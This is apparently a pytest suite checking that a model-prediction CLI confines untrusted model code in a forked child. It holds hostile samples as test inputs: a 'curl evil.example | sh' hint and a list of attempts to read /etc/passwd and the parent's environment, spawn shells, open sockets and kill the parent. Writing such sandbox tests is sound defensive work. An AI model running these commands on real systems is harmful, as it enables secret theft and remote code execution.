"""A model's process: whatever happens in it, the caller gets an answer or one error."""

from __future__ import annotations

import ast
import ctypes
import errno
import os
import resource
import signal
import socket
import subprocess
import sys
import threading
import time
import tracemalloc
from collections.abc import Callable, Iterator
from contextlib import contextmanager, nullcontext
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pandas.testing import assert_frame_equal

from pmlcli import runtime
from pmlcli.errors import (
    LogError,
    MissingDependencyError,
    PmlError,
    PredictionError,
    UntrustedArtifactError,
    ValidationError,
)
from pmlcli.lifecycle import answer, artifacts, child_error, confinement, frames, isolation
from pmlcli.lifecycle.answer import Answer
from pmlcli.lifecycle.canary import Replay
from pmlcli.lifecycle.confinement import MEGABYTE, Limits
from pmlcli.lifecycle.isolation import ask, limits_for
from pmlcli.lifecycle.model import Model
from pmlcli.lifecycle.verification import verify_model
from pmlcli.render import frame
from pmlcli.store import strictjson
from pmlcli.store.codecs import plain
from pmlcli.store.directory import read_model
from tests.logs import purchase_events

LIMITS = Limits(memory_bytes=300 * MEGABYTE, cpu_seconds=20, result_bytes=MEGABYTE)


def asked(work: Callable[[], Any], limits: Limits = LIMITS, *tellable: type[PmlError]) -> Any:
    return ask(work, limits, nullcontext(), tellable)


def refusal(work: Callable[[], Any], limits: Limits = LIMITS, *tellable: type[PmlError]) -> PmlError:
    with pytest.raises(PmlError) as caught:
        asked(work, limits, *tellable)
    return caught.value


def test_an_answer_comes_back_as_it_was() -> None:
    assert asked(lambda: {"a.json": b"{}", "b": bytes(range(256)) * 1000}) == {
        "a.json": b"{}",
        "b": bytes(range(256)) * 1000,
    }
    assert asked(dict) == {}


def test_an_error_of_ours_comes_back_as_itself() -> None:
    def fail() -> Any:
        raise LogError("no \x1b[31m good \ud800", hint="look", code="log.x", context={"line": 3})

    error = refusal(fail, LIMITS, LogError)
    assert isinstance(error, LogError)
    assert (error.hint, error.code, error.context) == (None, "log.x", {"line": 3})
    assert "\\ud800" in error.message

    def missing() -> Any:
        raise MissingDependencyError("torch", extra="neural", needed_by="x")

    error = refusal(missing)
    assert isinstance(error, MissingDependencyError)
    assert error.exit_code == 4
    assert error.hint == "pip install 'pmlcli[neural]'"


@pytest.mark.parametrize("kind", child_error.KINDS.values())
@pytest.mark.parametrize(
    "code", ["model.untrusted", "prediction.memory", "prediction.failed", "own.code", ""]
)
def test_what_to_do_is_never_in_the_childs_words(kind: type[PmlError], code: str) -> None:
    def fail() -> Any:
        error = kind.__new__(kind)
        context = {"extra": "all]' evil #", "dependency": "x"}
        PmlError.__init__(error, "why", hint="curl evil.example | sh", code=code, context=context)
        raise error

    error = refusal(fail, LIMITS, LogError, ValidationError)
    assert "why" in error.message
    assert "evil" not in str(error.hint)
    if error.exit_code == 4 and kind is not MissingDependencyError:
        assert error.hint


@pytest.mark.parametrize(
    "error",
    [
        AttributeError("x"),
        KeyError("x"),
        RecursionError(),
        SystemExit(0),
        KeyboardInterrupt(),
        OSError(5, "x"),
    ],
)
def test_any_other_error_means_that_the_model_is_no_good(error: BaseException) -> None:
    def fail() -> Any:
        raise error

    found = refusal(fail)
    assert isinstance(found, PredictionError)
    assert found.exit_code == 4
    assert type(error).__name__ in found.message
    assert "in fail" in "".join(found.__notes__)


def test_an_error_is_described_without_parsing_source(monkeypatch: pytest.MonkeyPatch) -> None:
    """Which is refused in the child, and Python 3.13 does it for every traceback."""

    def fail() -> Any:
        try:
            return 1 + int("x")
        except ValueError as error:
            raise KeyError("y") from error

    parent, parse = os.getpid(), ast.parse
    monkeypatch.setattr(
        ast, "parse", lambda *a, **k: parse(*a, **k) if os.getpid() == parent else os._exit(9)
    )
    notes = "".join(refusal(fail).__notes__)
    assert notes.index('return 1 + int("x")') < notes.index("ValueError") < notes.index("KeyError: 'y'")


def crash() -> Any:
    ctypes.string_at(0)


def abort() -> Any:
    os.abort()


def vanish() -> Any:
    os._exit(0)


def sleep() -> Any:
    time.sleep(60)


def spin() -> Any:
    while True:
        pass


def eat() -> Any:
    return np.ones(10**10)


def eat_slowly() -> Any:
    parts = []
    while True:
        parts.append(bytearray(1 << 20))


@contextmanager
def crashing() -> Iterator[None]:
    crash()
    yield


def test_a_crash_is_an_error() -> None:
    with pytest.raises(PredictionError, match="crashed \\(SIGSEGV\\)") as caught:
        ask(dict, LIMITS, crashing())
    assert caught.value.exit_code == 4
    assert "SIGABRT" in refusal(abort).message
    assert "without an answer" in refusal(vanish).message


def test_a_hang_is_an_error(monkeypatch: pytest.MonkeyPatch) -> None:
    one = Limits(memory_bytes=300 * MEGABYTE, cpu_seconds=1, result_bytes=MEGABYTE)
    assert "more than 1 seconds of processor time" in refusal(spin, one).message
    monkeypatch.setattr(isolation, "WALL_FACTOR", 0.2)
    assert "did not answer in time" in refusal(sleep, one).message


@pytest.mark.parametrize("work", [eat, eat_slowly])
def test_memory_is_bounded(work: Callable[[], Any]) -> None:
    error = refusal(work)
    assert error.exit_code == 4
    assert "more memory than its limit of 300 MB" in error.message


def test_an_interrupt_takes_the_child_with_it(monkeypatch: pytest.MonkeyPatch) -> None:
    seen: list[int] = []
    fork = os.fork

    def interrupted(*_: Any) -> Any:
        raise KeyboardInterrupt

    def forked() -> int:
        child = fork()
        seen.append(child)
        return child

    monkeypatch.setattr(os, "fork", forked)
    monkeypatch.setattr(isolation, "_last_frame", interrupted)
    with pytest.raises(KeyboardInterrupt):
        asked(sleep)
    with pytest.raises(ProcessLookupError):
        os.kill(seen[0], 0)


ORPHAN = """
import os, sys, time
from contextlib import nullcontext
from pmlcli.lifecycle.confinement import MEGABYTE, Limits
from pmlcli.lifecycle.isolation import ask

def work():
    os.write(2, str(os.getpid()).encode())
    time.sleep(600)

import pmlcli.lifecycle.isolation as isolation
isolation.isolate_streams = lambda *keep: None
ask(work, Limits(300 * MEGABYTE, 20, MEGABYTE), nullcontext())
"""


def is_gone(process: int) -> bool:
    """Whether it has ended; one that nobody has waited for yet has ended, too."""
    try:
        return Path(f"/proc/{process}/stat").read_text().rpartition(")")[2].split()[0] == "Z"
    except OSError:
        return True


@pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="needs /proc")
def test_the_child_ends_with_a_killed_parent() -> None:
    with subprocess.Popen([sys.executable, "-c", ORPHAN], stderr=subprocess.PIPE) as parent:
        assert parent.stderr is not None
        child = int(os.read(parent.stderr.fileno(), 20))
        assert not is_gone(child)
        parent.kill()
    deadline = time.monotonic() + 10
    while not is_gone(child) and time.monotonic() < deadline:
        time.sleep(0.02)
    assert is_gone(child)


def test_a_child_that_sleeps_ends_by_its_own_clock_where_no_death_is_told(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    parent = os.getpid()
    monkeypatch.setattr(ctypes, "CDLL", lambda _: object())
    monkeypatch.setattr(confinement, "_GRACE_SECONDS", 0)
    child = os.fork()
    if child == 0:
        confinement.end_with(parent, 0.1)
        time.sleep(60)
        os._exit(0)
    assert os.WTERMSIG(os.waitpid(child, 0)[1]) == signal.SIGALRM


def test_descriptors_beyond_a_thousand_are_no_hindrance() -> None:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    many = 1100
    if hard != resource.RLIM_INFINITY and hard < many + 100:
        many = 0  # this machine allows no such number to anybody
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, many + 100), hard))
    taken = [os.open(os.devnull, os.O_RDONLY) for _ in range(many)]
    try:
        assert asked(lambda: {"a": b"1"}) == {"a": b"1"}
    finally:
        for descriptor in taken:
            os.close(descriptor)
        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))


@pytest.mark.parametrize("call", ["pipe", "fork"])
def test_a_machine_without_room_for_a_process_is_told(call: str, monkeypatch: pytest.MonkeyPatch) -> None:
    def refused() -> Any:
        raise OSError(errno.EAGAIN, "Resource temporarily unavailable")

    before = len(list(Path("/proc/self/fd").iterdir())) if Path("/proc/self/fd").exists() else 0
    monkeypatch.setattr(os, call, refused)
    error = refusal(dict)
    assert error.exit_code == 74
    assert "ulimit" in str(error.hint)
    assert before == (len(list(Path("/proc/self/fd").iterdir())) if before else 0)


def test_a_byte_at_a_time_costs_no_more_memory(monkeypatch: pytest.MonkeyPatch) -> None:
    readv, size = os.readv, 200_000
    reading, writing = os.pipe()
    monkeypatch.setattr(os, "readv", lambda end, buffers: readv(end, [buffers[0][:1]]))
    writer = threading.Thread(target=lambda: (os.write(writing, bytes(size)), os.close(writing)))
    writer.start()
    read = frames.Frames(reading)
    tracemalloc.start()
    try:
        assert read.exactly(size, time.monotonic() + 60) == bytes(size)
        assert tracemalloc.get_traced_memory()[1] < 4 * size
    finally:
        tracemalloc.stop()
        os.close(reading)
        writer.join()


@pytest.mark.parametrize("what", ["frames", "labels", "long"])
def test_progress_has_an_end(what: str) -> None:
    def flooding() -> Any:
        writing = next(n for n in range(3, 64) if _is_pipe(n))
        for number in range(10**6):
            label = str(number) if what == "labels" else "x" * 200
            frame = strictjson.dump([label, number, None])
            frames.send(writing, b"p", frame + b" " * (5000 if what == "long" else 0))

    short = Limits(
        memory_bytes=300 * MEGABYTE, cpu_seconds=1 if what == "frames" else 20, result_bytes=MEGABYTE
    )
    seen: list[str] = []
    with runtime.use(progress=lambda label, done, total: seen.append(label)):
        error = refusal(flooding, short)
    assert isinstance(error, UntrustedArtifactError)
    assert len(seen) < 10_000
    assert len(set(seen)) <= 100


def write(path: Path) -> Callable[[], Any]:
    return lambda: path.write_text("x")


TRIED: dict[str, Callable[[Path], Any]] = {
    "a shell": lambda marker: os.system(f"touch {marker}"),
    "a process": lambda marker: subprocess.run(["touch", marker], check=False),
    "an executable": lambda marker: os.execv("/bin/sh", ["sh", "-c", f"touch {marker}"]),
    "a spawned one": lambda marker: os.posix_spawn("/bin/true", ["true"], {}),
    "a fork": lambda marker: os.fork(),
    "code": lambda marker: eval(f"open({str(marker)!r}, 'w')"),  # noqa: S307
    "compiled code": lambda marker: exec(compile("1", "x", "exec")),  # noqa: S102
    "a socket": lambda marker: socket.socket().connect(("127.0.0.1", 1)),
    "a file": lambda marker: marker.write_text("x"),
    "a low file": lambda marker: os.open(marker, os.O_CREAT | os.O_WRONLY),
    "a secret": lambda marker: Path("/etc/passwd").read_text(),
    "a link": lambda marker: marker.symlink_to("/etc/passwd"),
    "a removal": lambda marker: marker.parent.rmdir(),
    "a library": lambda marker: ctypes.CDLL("libc.so.6"),
    "a signal": lambda marker: os.kill(os.getppid(), 9),
    "the parent's environment": lambda marker: Path(f"/proc/{os.getppid()}/environ").read_bytes(),
    "the parent's command": lambda marker: Path(f"/proc/{os.getppid()}/cmdline").read_bytes(),
    "its root by another name": lambda marker: Path("/proc/self/root/etc/passwd").read_bytes(),
    "a place whose name begins so": lambda marker: Path("/process-data/secret").read_bytes(),
    "a pipe with a name": lambda marker: os.mkfifo(marker),
    "a node": lambda marker: os.mknod(marker),
    "a signal by descriptor": lambda marker: os.pidfd_open(os.getppid()),
    "a program, untold": lambda marker: __import__("_posixsubprocess").fork_exec(),
    "priorities": lambda marker: os.setpriority(os.PRIO_PROCESS, os.getppid(), 10),
    "another session": lambda marker: os.setsid(),
    "marshal": lambda marker: __import__("marshal").loads(b"N"),
}


@pytest.mark.parametrize("what", TRIED)
def test_what_no_model_needs_is_refused(what: str, tmp_path: Path) -> None:
    marker = tmp_path / "marker"
    error = refusal(lambda: TRIED[what](marker))
    assert isinstance(error, UntrustedArtifactError), error.message
    assert "was stopped" in error.message
    assert not marker.exists()
    assert tmp_path.exists()


def test_what_is_swallowed_stays_refused(tmp_path: Path) -> None:
    def hidden() -> Any:
        try:
            (tmp_path / "marker").write_text("x")
        except OSError:
            return {"ok": b""}

    assert asked(hidden) == {"ok": b""}
    assert not (tmp_path / "marker").exists()


def test_a_library_can_still_be_imported() -> None:
    def importing() -> Any:
        # A module that nothing else imports, with named tuples (made by running text as code).
        import sched

        return {"name": sched.__name__.encode()}

    assert asked(importing) == {"name": b"sched"}


def test_the_child_has_nobody_elses_descriptors(tmp_path: Path) -> None:
    with (tmp_path / "x").open("wb") as file:
        number = file.fileno()

        def use() -> Any:
            os.write(number, b"x")

        assert "OSError" in refusal(use).message
    assert (tmp_path / "x").read_bytes() == b""


def test_progress_is_shown_by_the_parent() -> None:
    seen: list[tuple[str, int, int | None]] = []

    def working() -> Any:
        list(runtime.track(range(3), "scoring", 3))
        return {}

    with runtime.use(progress=lambda *step: seen.append(step)):
        asked(working)
    assert seen[0] == ("scoring", 0, 3)
    assert seen[-1] == ("scoring", 3, 3)


def test_without_fork_the_way_out_is_named(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delattr(os, "fork")
    with pytest.raises(ValidationError, match="no fork") as caught:
        asked(dict)
    assert "--no-isolation" in str(caught.value.hint)


def raw(data: bytes) -> Callable[[], Any]:
    """A child that sends these bytes instead of an answer."""

    def send() -> Any:
        # The one descriptor of a pipe that is left.
        pipes = [n for n in range(3, 64) if _is_pipe(n)]
        os.write(pipes[0], data)
        os._exit(0)

    return send


def _is_pipe(descriptor: int) -> bool:
    try:
        return os.fstat(descriptor).st_mode & 0o170000 == 0o010000
    except OSError:
        return False


HEAD = frames.HEAD
ODD_FRAMES = {
    "nothing": b"",
    "half a head": b"a\x01",
    "unknown kind": HEAD.pack(b"z", 0),
    "huge": HEAD.pack(b"a", 2**60),
    "huge error": HEAD.pack(b"e", 2**20),
    "cut": HEAD.pack(b"a", 10) + b"x",
    "no files": HEAD.pack(b"a", 3) + b"abc",
    "file too long": HEAD.pack(b"a", 11) + frames.FILE_HEAD.pack(4, 2**40) + b"x",
    "pickle": HEAD.pack(b"e", 4) + b"\x80\x04N.",
    "error of another kind": HEAD.pack(b"e", 14) + b'{"kind": "os"}',
    "error that is a list": HEAD.pack(b"e", 2) + b"[]",
    "progress of nothing": HEAD.pack(b"p", 2) + b"{}",
    "deep": HEAD.pack(b"e", 60_000) + b"[" * 60_000,
}


@pytest.mark.parametrize("name", ODD_FRAMES)
def test_an_answer_of_another_form_is_refused(name: str) -> None:
    error = refusal(raw(ODD_FRAMES[name]))
    # A cut-off frame says no more than that the child ended.
    assert error.exit_code == (4 if name in ("nothing", "half a head", "cut") else 5)


def test_the_memory_limit_grows_with_the_log_and_the_model() -> None:
    small, large = limits_for(events=0, files={}), limits_for(events=10**6, files={"a.npy": bytes(10**8)})
    assert small.memory_bytes == isolation.MEMORY_BYTES
    assert large.memory_bytes > 16 * 10**9
    assert large.cpu_seconds > 10_000
    assert small.cpu_seconds == 30


def test_bytes_of_the_model_buy_no_hours_of_processor_time() -> None:
    class Long(bytes):
        def __len__(self) -> int:
            return 2**30

    large = limits_for(events=0, files={"a.npy": Long()})
    assert large.cpu_seconds == 330
    assert large.memory_bytes <= 12 * 2**30


# --- tables

UNSEEN = {"activity": {"events": 2, "examples": ["a"], "similar": {"a": "A"}}}


def test_every_kind_of_column_comes_back() -> None:
    times = pd.to_datetime(
        ["2024-03-31T00:30:00.123456Z", None, "1999-01-01T00:00:00Z"], format="ISO8601", utc=True
    )
    table = pd.DataFrame(
        {
            "text": pd.Series(["a", None, "é\x00\U0001f600"], dtype="str"),
            "object": pd.Series(["", "x", None], dtype=object),
            "flag": [True, False, True],
            "whole": [1, -(2**62), 3],
            "small": np.array([1, 2, 3], dtype=np.int32),
            "number": [0.1, np.nan, -np.inf],
            "maybe": pd.array([1, None, 3], dtype="Int64"),
            "perhaps": pd.array([True, None, False], dtype="boolean"),
            "utc": times.as_unit("us"),
            "here": times.as_unit("us").tz_convert("Europe/Amsterdam"),
            "naive": times.tz_localize(None),
        }
    )
    found, unseen = answer.decode(answer.encode(Answer(table, UNSEEN)), most_characters=1000)
    assert_frame_equal(found, table, check_exact=True)
    assert unseen == UNSEEN


def test_an_empty_table_comes_back() -> None:
    table = pd.DataFrame({"a": pd.Series([], dtype="str"), "b": pd.Series([], dtype="float64")})
    assert_frame_equal(answer.decode(answer.encode(Answer(table, {})), most_characters=0).table, table)


def test_a_column_of_anything_is_a_bug_told_at_once() -> None:
    with pytest.raises(TypeError, match="other things than text"):
        answer.encode(Answer(pd.DataFrame({"a": [1, "x"]}, dtype=object), {}))
    with pytest.raises(TypeError, match="complex"):
        answer.encode(Answer(pd.DataFrame({"a": [1j]}), {}))


def state_of(**changes: Any) -> dict[str, Any]:
    """The answer's state of one column `a`, with changes."""
    whole = {"unseen": {}, "rows": 1, "names": ["a"], "kinds": ["float64"]}
    return whole | {"c0_values": np.zeros(1)} | changes


def of_texts(text: bytes, rows: int, kind: str = "str") -> dict[str, Any]:
    """The answer's state of a column with one text in every row."""
    codes, ends = np.zeros(rows, dtype=np.int64), np.array([len(text)])
    return state_of(rows=rows, kinds=[kind]) | {
        "c0_codes": codes, "c0_ends": ends, "c0_text": np.frombuffer(text, dtype=np.uint8)
    }  # fmt: skip


def of_times(unit: str, *counts: int) -> dict[str, Any]:
    kind = f"datetime64[{unit}, Europe/Amsterdam]"
    return state_of(rows=len(counts), kinds=[kind], c0_values=np.array(counts, dtype=np.int64))


ODD_ANSWERS = {
    "rows without a column": state_of(rows=10**15, names=[], kinds=[]),
    "more rows than numbers count": state_of(rows=10**40, names=[], kinds=[]),
    "no column": state_of(rows=0, names=[], kinds=[]),
    "more rows than values": state_of(rows=10**9),
    "a text in every row": of_texts(b"x" * 100_000, 1000),
    "an object in every row": of_texts(b"x" * 100_000, 1000, "object"),
    "half a surrogate": of_texts("\ud800".encode("utf-8", "surrogatepass"), 1, "object"),
    "more text than rows of it": of_texts(b"x" * 9_000_000, 1),
    "rare letters in one text": of_texts("\U0001f600".encode() + b"x" * 4_000_000, 1),
    "more texts than rows": of_texts(b"", 1) | {"c0_ends": np.zeros(10**6, dtype=np.int64)},
    "a cut letter": of_texts("é".encode(), 1)
    | {"c0_ends": np.array([1]), "c0_text": np.array([195], np.uint8)},
    "seconds beyond the years": of_times("s", 2**62, -(2**62)),
    "seconds beyond a calendar": of_times("s", 2**40),
    "milliseconds beyond the years": of_times("ms", 2**62),
    "microseconds beyond the years": of_times("us", -(2**62)),
    "nanoseconds beyond the years": of_times("ns", 2**63 - 1),
}


@pytest.mark.parametrize("name", ODD_ANSWERS)
def test_an_answer_that_would_harm_the_parent_is_refused(name: str) -> None:
    files = plain.encode(ODD_ANSWERS[name], stem=answer.STEM)
    with pytest.raises(UntrustedArtifactError, match="malformed"):
        answer.decode(files, most_characters=10_000_000)


@pytest.mark.parametrize(
    "unseen",
    [{str(key): {} for key in range(200_000)}, {"a": "x" * 9_000_000}, {"a": [[]] * 150_000}],
    ids=["keys", "text", "items"],
)
def test_what_stands_beside_the_columns_is_small(unseen: Any) -> None:
    files = plain.encode(state_of(unseen=unseen), stem=answer.STEM)
    with pytest.raises(PmlError, match="answer.json: invalid JSON: .*more than"):
        answer.decode(files, most_characters=10_000_000)
    files = plain.encode({"largest": 0.0, "findings": [unseen]}, stem="replay")
    with pytest.raises(PmlError, match="replay.json: invalid JSON: .*more than"):
        Replay.from_files(files)


@pytest.mark.parametrize("unit", ["s", "ms", "us", "ns"])
def test_the_farthest_times_can_be_written(unit: str) -> None:
    most = answer._FARTHEST[unit]
    files = plain.encode(of_times(unit, most, -most, np.iinfo(np.int64).min), stem=answer.STEM)
    table, _unseen = answer.decode(files, most_characters=0)
    assert len(frame.to_bytes(table, "csv")) > 40


@pytest.mark.parametrize("kind", ["PmlError", "HookError", "SignatureError", "OutputError", "BusyError"])
def test_a_child_raises_only_what_a_model_may(kind: str) -> None:
    told = {"kind": kind, "code": "x", "message": "m", "hint": None, "notes": "", "context": {}}
    error = child_error.from_json(strictjson.dump(told))
    assert (type(error), error.exit_code) == (UntrustedArtifactError, 5)


def test_a_child_s_context_is_flat() -> None:
    told = {"kind": "PersistenceError", "code": "x", "message": "m", "hint": None, "notes": ""}
    odd = {"findings": [1, 2], "failed_hooks": "x", "deep": [[[]]], "path": "p"}
    assert child_error.from_json(strictjson.dump(told | {"context": odd})).context == {"path": "p"}
    findings = [{"what": "a", "expected": 1, "found": "b"}]
    good = child_error.from_json(strictjson.dump(told | {"context": {"findings": findings}}))
    assert good.context == {"findings": findings}


def test_an_answer_of_a_million_files_is_refused() -> None:
    payload = b"".join(frames.FILE_HEAD.pack(5, 0) + b"%05x" % number for number in range(2000))
    with pytest.raises(UntrustedArtifactError, match="answered"):
        frames.unpacked(payload)


@settings(max_examples=150, deadline=None)
@given(st.data())
def test_a_changed_answer_is_a_table_or_a_refusal(data: st.DataObject) -> None:
    table = pd.DataFrame(
        {"text": ["a", "b", None, "a"], "n": [1.0, 2, 3, 4], "t": pd.to_datetime(["2024"] * 4, utc=True)}
    )
    files = dict(answer.encode(Answer(table, UNSEEN)))
    name = data.draw(st.sampled_from(sorted(files)))
    changed = bytearray(files[name])
    for _ in range(data.draw(st.integers(1, 4))):
        changed[data.draw(st.integers(0, len(changed) - 1))] = data.draw(st.integers(0, 255))
    files[name] = bytes(changed)
    try:
        found, _unseen = answer.decode(files, most_characters=1000)
    except PmlError as error:
        assert error.exit_code == 5
    else:
        assert len(found) == 4


# --- who is isolated


@pytest.fixture(scope="module")
def saved(tmp_path_factory: pytest.TempPathFactory) -> Path:
    model = Model("next-activity/ngram")
    model.train(purchase_events(60))
    return model.save(tmp_path_factory.mktemp("isolated") / "m").path


WAYS: dict[str, Callable[..., Any]] = {
    "load": lambda path, **how: Model.load(path, **how).predict(purchase_events(5)),
    "load into itself": lambda path, **how: (
        Model("next-activity/ngram").load(path, **how).predict(purchase_events(5))
    ),
    "from verified bytes": lambda path, **how: Model.from_stored(read_model(path), **how).predict(
        purchase_events(5)
    ),
    "replay": lambda path, **how: Model.load(path, **how).replay(),
    "verify": lambda path, **how: verify_model(path, **how),
}


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("trusted", [None, False, True])
def test_every_way_from_python_is_isolated_unless_the_model_is_trusted(
    way: str, trusted: bool | None, saved: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    forks: list[int] = []
    fork = os.fork
    monkeypatch.setattr(os, "fork", lambda: forks.append(1) or fork())
    restored: list[int] = []
    restore = artifacts.restore
    monkeypatch.setattr(artifacts, "restore", lambda *given: restored.append(os.getpid()) or restore(*given))
    WAYS[way](saved, **({} if trusted is None else {"trusted": trusted}))
    assert len(forks) == (0 if trusted else 1)
    assert len(restored) == (1 if trusted else 0)
